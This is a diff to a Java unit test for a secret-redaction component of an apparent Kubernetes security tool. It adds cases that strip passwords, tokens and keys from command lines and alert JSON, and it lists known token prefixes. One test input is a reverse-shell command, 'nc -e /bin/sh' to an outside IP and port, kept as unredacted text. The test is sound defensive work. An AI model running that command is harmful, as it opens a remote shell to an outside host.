@@ -2,11 +2,12 @@ package io.cattleguard.respond.kubernetes.cluster;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
-import static org.junit.jupiter.api.Assertions.assertTimeout;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.json.JsonMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import java.io.IOException;
 import java.time.Duration;
 import org.junit.jupiter.api.Test;
@@ -15,6 +16,7 @@ import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 final class RedactionTest {
+  private static final Duration SHORT = Duration.ofSeconds(5);
 
   @ParameterizedTest
   @CsvSource(
@@ -31,6 +33,22 @@ final class RedactionTest {
         "postgres://ann:hunter2@db:5432/shop | postgres://ann:[redacted]@db:5432/shop",
         "aws AKIAIOSFODNN7EXAMPLE s3 | aws [redacted] s3",
         "x wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY4567 | x [redacted]",
+        "DB_PASS=hunter2 run | DB_PASS=[redacted] run",
+        "run --pass hunter2 --port 80 | run --pass [redacted] --port 80",
+        "pass: hunter2 | pass: [redacted]",
+        "run --password -hunter2 x | run --password [redacted] x",
+        "run --password --token hunter2 x | run --password --token [redacted] x",
+        "mysql -h db -phunter2 shop | mysql -h db -p[redacted] shop",
+        "mysqldump --all -phunter2 | mysqldump --all -p[redacted]",
+        "cp -pr a b | cp -pr a b",
+        "AccountName=shop;AccountKey=hunter2 | AccountName=shop;AccountKey=[redacted]",
+        "https://shop.example.com/a?sig=hunter2 | https://shop.example.com/a?sig=[redacted]",
+        "git clone https://hunter2@example.com/a | git clone https://[redacted]@example.com/a",
+        "aws configure set aws_secret_access_key hunter2 | aws configure set aws_secret_access_key"
+            + " [redacted]",
+        "curl -H 'Authorization: Token hunter2' | curl -H 'Authorization: [redacted] [redacted]'",
+        "{\\\"password\\\":\\\"hunter2\\\"} | {\\\"password\\\":[redacted]}",
+        "bypass the passed config of the design | bypass the passed config of the design",
         "sh -c 'nc -e /bin/sh 203.0.113.7 4444' | sh -c 'nc -e /bin/sh 203.0.113.7 4444'",
         "java -jar /opt/shop/lib/application-server-1.2.3.jar | java -jar"
             + " /opt/shop/lib/application-server-1.2.3.jar"
@@ -51,6 +69,10 @@ final class RedactionTest {
         "{'spec':{'template':{'metadata':{'annotations':{'a/last-applied':'hunter2'}}}}}",
         "{'metadata':{'annotations':{'copy':'containers: [env: hunter2]'}}}",
         "{'metadata':{'annotations':{'note':'token: hunter2'}}}",
+        "{'metadata':{'annotations':{'example.com/password':'hunter2'}}}",
+        "{'containers':[{'args':['--password','-hunter2']}]}",
+        "{'containers':[{'args':['--password','--token','hunter2']}]}",
+        "{'containers':[{'command':['/usr/bin/mysql','-phunter2']}]}",
         "{'message':'exec failed: --password=hunter2'}",
         "{'managedFields':['hunter2']}"
       })
@@ -63,10 +85,86 @@ final class RedactionTest {
     assertFalse(tree.toString().contains("hunter2"), tree::toString);
   }
 
-  @Test
-  void aHostileTextCostsLittle() {
-    String hostile = "token".repeat(20_000) + "-----BEGIN PRIVATE KEY-----".repeat(5_000);
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "glpat-",
+        "ghp_",
+        "github_pat_",
+        "sk_live_",
+        "rk_test_",
+        "npm_",
+        "SG.madeupword.",
+        "xoxb-"
+      })
+  void aTokenOfAKnownKindIsReplaced(String kind) {
+    String token = kind + "made_up".repeat(3);
 
-    assertTimeout(Duration.ofSeconds(5), () -> Redaction.text(hostile));
+    assertEquals("use [redacted] now", Redaction.text("use " + token + " now"));
+  }
+
+  @Test
+  void anAlertLosesWhatAProgramWasCalledWithAndKeepsWhichObjectItIsAbout() throws IOException {
+    ObjectNode scored =
+        (ObjectNode)
+            JsonMapper.builder()
+                .build()
+                .readTree(
+                    """
+                    {"id":"0123456789abcdef0123456789abcdef","score":80,"alert":{
+                      "id":"abcdef0123456789abcdef0123456789","title":"token=hunter2",
+                      "target":{"containerId":"0123456789abcdef0123456789abcdef01234567"},
+                      "process":{"commandLine":"mysql -phunter2","name":"mysql"},
+                      "file":{"path":"/tmp/a?sig=hunter2"},"notes":["pass: hunter2"],
+                      "raw":"{\\"cmdline\\":\\"run --pass hunter2\\"}"}}
+                    """);
+
+    Redaction.redactAlert(scored);
+
+    assertFalse(scored.toString().contains("hunter2"), scored::toString);
+    assertEquals("mysql", scored.path("alert").path("process").path("name").asText());
+    assertTrue(scored.toString().contains("0123456789abcdef0123456789abcdef01234567"));
+    assertTrue(scored.toString().contains("abcdef0123456789abcdef0123456789"));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "-eyJ",
+        "eyJ-eyJ.",
+        "token",
+        "token=\"",
+        "-----BEGIN PRIVATE KEY-----",
+        "://a:",
+        "://",
+        " -u ",
+        " --token ",
+        "mysql ",
+        "mysql -x ",
+        "sk_live_",
+        "SG.",
+        "AKIA",
+        "a1-",
+        "bearer ",
+        "auth:a ",
+        "authorization: a ",
+        "\\\"",
+        "pass",
+        "sig",
+        "x"
+      })
+  void aHostileTextCostsLittle(String part) {
+    String hostile = part.repeat(1 + (1 << 20) / part.length());
+
+    String kept = assertTimeoutPreemptively(SHORT, () -> Redaction.text(hostile));
+
+    assertTrue(kept.length() < 200_000, () -> "kept " + kept.length());
+  }
+
+  @Test
+  void aSecretAtWhichATextIsCutIsNotKeptInHalf() {
+    String text = Redaction.text("word ".repeat(3_276) + "ghp" + "_made_up_made_up_made_up");
+
+    assertTrue(text.endsWith("word [cut]"), text);
   }
 }
